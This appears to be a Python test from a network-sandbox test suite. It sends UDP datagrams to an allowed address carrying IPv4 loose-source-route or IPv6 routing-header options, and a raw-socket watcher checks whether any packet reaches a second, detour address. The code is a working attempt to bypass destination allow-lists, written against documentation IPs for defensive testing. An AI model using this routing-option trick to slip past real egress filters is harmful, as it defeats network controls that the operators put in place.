"""A datagram to an allowed address, with a header that takes it elsewhere first; set for the socket or sent along."""

import socket
import struct
import threading

from kernel import every
from network import arrived, bound, note, take_in, token

DETOURS = {socket.AF_INET: "198.51.100.1", socket.AF_INET6: "2001:db8::2"}
ALLOWED = {socket.AF_INET: "192.0.2.1", socket.AF_INET6: "2001:db8::1"}
IP_RETOPTS = 7
ETH_P_ALL = 3


def beside(folder):
    take_in(folder, *(bound(socket.SOCK_DGRAM, address, 5353) for address in ALLOWED.values()))
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    wire.bind(("lo", ETH_P_ALL))
    threading.Thread(target=watch, args=(folder, wire), daemon=True).start()
    ready()


def watch(folder, wire):
    """Notes what the detour gets to see; each packet passes twice."""
    detours = [socket.inet_pton(family, address) for family, address in DETOURS.items()]
    seen = set()
    while packet := wire.recv(4096):
        destination = packet[16:20] if packet[0] >> 4 == 4 else packet[24:40]
        if destination in detours and packet not in seen:
            seen.add(packet)
            note(folder, packet[-12:])


def route(family):
    """The level and the two names of the option, and the header."""
    hop = socket.inet_pton(family, DETOURS[family])
    if family == socket.AF_INET:
        # A loose route (RFC 791), filled up.
        return socket.IPPROTO_IP, socket.IP_OPTIONS, IP_RETOPTS, bytes([131, 7, 4]) + hop + b"\0"
    # struct rt2_hdr: one hop.
    header = struct.pack("BBBBI", 0, 2, 2, 1, 0) + hop
    return socket.IPPROTO_IPV6, socket.IPV6_RTHDR, socket.IPV6_RTHDR, header


def for_the_socket(folder, family):
    data = token()
    level, option, _, header = route(family)
    with socket.socket(family, socket.SOCK_DGRAM) as client:
        client.setsockopt(level, option, header)
        client.sendto(data, (ALLOWED[family], 5353))
        arrived(folder, data)


def with_the_message(folder, family):
    data = token()
    level, _, option, header = route(family)
    with socket.socket(family, socket.SOCK_DGRAM) as client:
        client.sendmsg([data], [(level, option, header)], 0, (ALLOWED[family], 5353))
        arrived(folder, data)


def attack(folder):
    every(
        lambda: for_the_socket(folder, socket.AF_INET),
        lambda: for_the_socket(folder, socket.AF_INET6),
        lambda: with_the_message(folder, socket.AF_INET),
        lambda: with_the_message(folder, socket.AF_INET6),
    )


def twin(folder):
    for family, address in ALLOWED.items():
        data = token()
        with socket.socket(family, socket.SOCK_DGRAM) as client:
            client.sendto(data, (address, 5353))
            arrived(folder, data)
